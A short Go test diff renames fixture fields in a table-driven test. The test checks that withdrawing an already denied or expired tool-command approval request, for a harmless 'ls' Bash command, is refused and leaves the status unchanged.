+		"denied":   {func(id string) { f.Reg.DenyApproval(f.Ctx, id, "no", core.OperatorActor()) }, 0, core.ApprovalDenied, "already denied"},
 		"expired":  {func(string) {}, 2 * time.Minute, core.ApprovalExpired, "already expired"},
 	} {
-		b, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls " + name, ExpiresIn: time.Minute}, core.ActorRuntime)
-		f.must(err)
+		b, err := f.Reg.RequestApproval(f.Ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls " + name, ExpiresIn: time.Minute}, core.ActorRuntime)
+		f.Must(err)
 		tc.decide(b.ID)
-		f.clock.Advance(tc.advance)
-		if _, res, err := f.reg.WithdrawApproval(f.ctx, b.ID, "", core.ActorRuntime); err != nil || res.Applied || !strings.HasPrefix(res.Reason, tc.reason) {
+		f.Clock.Advance(tc.advance)
+		if _, res, err := f.Reg.WithdrawApproval(f.Ctx, b.ID, "", core.ActorRuntime); err != nil || res.Applied || !strings.HasPrefix(res.Reason, tc.reason) {
 			t.Errorf("%s: withdraw %v %+v, want refused %q", name, err, res, tc.reason)
 		}
-		if got := f.getApproval(b.ID); got.Status != tc.want {
+		if got := f.GetApproval(b.ID); got.Status != tc.want {
 			t.Errorf("%s: status %s, want %s", name, got.Status, tc.want)
 		}
 	}
